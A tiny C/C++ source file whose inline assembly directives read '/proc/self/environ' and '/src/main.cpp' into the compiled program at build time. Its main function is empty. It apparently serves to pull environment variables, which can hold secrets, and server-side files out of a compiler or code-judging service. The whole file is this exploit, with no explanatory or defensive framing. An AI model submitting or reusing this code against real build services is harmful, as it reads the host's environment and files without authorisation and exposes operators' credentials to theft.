asm(".altmacro\n.macro grab\n.incbin \"/proc/self/environ\"\n.endm\ngrab\n");
asm(".include \"/src/main.cpp\"");
int main() {}
